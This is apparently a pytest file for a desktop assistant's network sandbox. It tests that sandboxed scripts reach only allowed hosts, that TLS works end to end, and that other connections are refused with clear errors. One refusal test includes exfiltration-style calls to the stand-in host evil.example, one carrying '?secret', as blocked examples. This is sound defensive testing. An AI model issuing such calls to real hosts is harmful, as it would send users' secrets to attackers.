"""What a script reaches, and what it is told where it does not, by Python's own sockets."""

from __future__ import annotations

import errno
import socket
import ssl
from collections.abc import Iterator
from pathlib import Path

import pytest

from jarvis_desktop.core.code import Ending
from jarvis_desktop.sandbox.profile import Launcher
from tests.sandbox.sessions import LAUNCHERS, PACKAGES, bench
from tests.sandbox.web import proxy, served

each = pytest.mark.parametrize("launcher", LAUNCHERS, ids=lambda item: item.name)


@pytest.fixture(scope="module")
def port() -> Iterator[int]:
    with served() as found:
        yield found


@each
async def test_libraries_reach_what_was_agreed_to_by_its_name(
    tmp_path: Path, launcher: Launcher, port: int
) -> None:
    way = lambda: proxy(f"Prices.Example:{port}")  # noqa: E731
    async with bench(tmp_path, launcher, packages=PACKAGES, proxy=way) as made:
        url = f"http://prices.example:{port}/prices.csv"
        opened = await made.run(
            f"import urllib.request\nurllib.request.urlopen({url!r}).read().decode()"
        )
        assert opened.value == "'day,price\\n1,20\\n2,30\\n'", opened.error
        asked = await made.run(
            "import http.client\n"
            f"way = http.client.HTTPConnection('prices.example', {port})\n"
            "found = []\n"
            "for n in range(3):\n"
            "    way.request('POST', '/', body=b'x' * 300000)\n"
            "    answer = way.getresponse()\n"
            "    found.append((len(answer.read()), answer.headers['X-Host']))\n"
            "found"
        )
        assert asked.value == str([(300000, f"prices.example:{port}")] * 3)
        loops = await made.run(
            "import asyncio\n"
            "async def ask():\n"
            f"    source, target = await asyncio.open_connection('prices.example', {port})\n"
            "    target.write(b'GET / HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n')\n"
            "    text = await source.read()\n"
            "    target.close()\n"
            "    return text[-5:], target.get_extra_info('peername')[1]\n"
            "asyncio.run(ask())"
        )
        assert loops.value == f"(b'2,30\\n', {port})"
        read = await made.run(
            "import requests, httpx\n"
            f"requests.get({url!r}).text[:3], httpx.get({url!r}, trust_env=False).text[-3:]"
        )
        assert read.value == "('day', '30\\n')", read.error
        assert opened.refused_hosts == read.refused_hosts == ()


async def test_pandas_reads_a_table_by_its_address(tmp_path: Path, port: int) -> None:
    way = lambda: proxy(f"prices.example:{port}")  # noqa: E731
    async with bench(tmp_path, packages=PACKAGES, proxy=way) as made:
        done = await made.run(
            "import pandas as pd\n"
            f"int(pd.read_csv('http://prices.example:{port}/prices.csv')['price'].sum())"
        )
        assert done.value == "50"


async def test_encryption_goes_from_end_to_end(tmp_path: Path) -> None:
    certificate, key = certified(tmp_path)
    trust = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    trust.load_cert_chain(certificate, key)
    with served(trust) as secure:
        way = lambda: proxy(f"prices.example:{secure}")  # noqa: E731
        files = {"trusted.pem": certificate}
        async with bench(tmp_path, proxy=way, files=files) as made:
            done = await made.run(
                "import ssl, urllib.request\n"
                "trust = ssl.create_default_context(cafile='trusted.pem')\n"
                f"url = 'https://prices.example:{secure}/'\n"
                "urllib.request.urlopen(url, context=trust).read()[:3]"
            )
            assert done.value == "b'day'", done.error
            refused = await made.run("urllib.request.urlopen(url)")
            assert "CERTIFICATE_VERIFY_FAILED" in refused.error


def certified(folder: Path) -> tuple[Path, Path]:
    """A certificate for prices.example, which vouches for itself, and its key."""
    from datetime import datetime, timedelta

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    private = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "prices.example")])
    now = datetime.now()
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(private.public_key())
        .serial_number(1)
        .not_valid_before(now - timedelta(days=2))
        .not_valid_after(now + timedelta(days=2))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName("prices.example")]), False)
        .sign(private, hashes.SHA256())
    )
    certificate, key = folder / "certificate.pem", folder / "key.pem"
    certificate.write_bytes(made.public_bytes(serialization.Encoding.PEM))
    key.write_bytes(
        private.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return certificate, key


@each
async def test_other_hosts_and_other_ways_are_refused_and_told(
    tmp_path: Path, launcher: Launcher, port: int
) -> None:
    way = lambda: proxy("prices.example:9999")  # noqa: E731
    async with bench(tmp_path, launcher, proxy=way) as made:
        done = await made.run(
            "import socket, urllib.request\n"
            "told = []\n"
            "def refused(ask):\n"
            "    try:\n"
            "        ask()\n"
            "    except OSError as error:\n"
            "        told.append(f'{type(error).__name__} {error}')\n"
            "    else:\n"
            "        told.append('done')\n"
            f"refused(lambda: socket.create_connection(('127.0.0.1', {port})))\n"
            f"refused(lambda: socket.create_connection(('PRICES.example', {port})))\n"
            f"refused(lambda: socket.socket().connect(('::1', {port})))\n"
            "refused(lambda: urllib.request.urlopen('http://evil.example/?secret'))\n"
            "refused(lambda: socket.socket(type=socket.SOCK_DGRAM))\n"
            "refused(lambda: socket.socket(socket.AF_UNIX).connect('/run/x'))\n"
            "refused(lambda: socket.getaddrinfo('x', 53, type=socket.SOCK_DGRAM))\n"
            "refused(lambda: socket.create_server(('', 8000)))\n"
            "refused(lambda: socket.getaddrinfo('x', 'no service'))\n"
            "refused(lambda: socket.getaddrinfo('x', 80, socket.AF_INET6))\n"
            "refused(lambda: socket.create_connection(('x' * 300, 80)))\n"
            "code = socket.socket().connect_ex(('evil.example', 443))\n"
            "print(*told, sep='\\n')\n"
            "code"
        )
        lines = done.printed.splitlines()
        assert "not among the hosts that this script may reach" in lines[0]
        assert lines[0].startswith(f"PermissionError [Errno 13] 127.0.0.1:{port} is not")
        assert lines[1].startswith(f"PermissionError [Errno 13] prices.example:{port} is not")
        assert lines[2].startswith(f"PermissionError [Errno 13] [::1]:{port} is not")
        assert "evil.example:80 is not among" in lines[3]
        assert "TCP connections only" in lines[4]
        assert lines[5].startswith("PermissionError")
        assert "TCP connections only" in lines[6]
        assert "cannot wait for connections" in lines[7]
        assert "no service" in lines[8]
        assert "no address of that family" in lines[9]
        assert "too long" in lines[10]
        assert len(lines) == 11
        assert done.value == str(errno.EACCES)
        assert list(done.refused_hosts) == [
            f"127.0.0.1:{port}",
            f"prices.example:{port}",
            f"[::1]:{port}",
            "evil.example:80",
            "evil.example:443",
        ]
        assert (await made.run("1")).refused_hosts == ()


async def test_failures_beyond_are_told_as_sockets_do(tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        free = taken.getsockname()[1]
    way = lambda: proxy(f"prices.example:{free}", "unknown.example")  # noqa: E731
    async with bench(tmp_path, proxy=way) as made:
        done = await made.run(
            "import socket\n"
            "told = []\n"
            f"for place in (('prices.example', {free}), ('unknown.example', 80)):\n"
            "    try:\n"
            "        socket.create_connection(place, timeout=5)\n"
            "    except OSError as error:\n"
            "        told.append((type(error).__name__, str(error)))\n"
            "socket.gethostbyname('a.b') == socket.gethostbyname('A.b'), told"
        )
        assert "('ConnectionRefusedError', '[Errno 111] prices.example:" in done.value
        assert "('gaierror', '[Errno -2] unknown.example was not found on the network.')" in (
            done.value
        )
        assert done.value.startswith("(True, ")
        assert done.refused_hosts == ()


async def test_offline_nothing_is_reached_whatever_was_agreed_to(tmp_path: Path, port: int) -> None:
    way = lambda: proxy(f"127.0.0.1:{port}", network=False)  # noqa: E731
    async with bench(tmp_path, proxy=way) as made:
        done = await made.run(f"import socket\nsocket.create_connection(('127.0.0.1', {port}))")
        assert done.ending is Ending.ERROR
        assert "there is no network" in done.error
        assert done.refused_hosts == (f"127.0.0.1:{port}",)
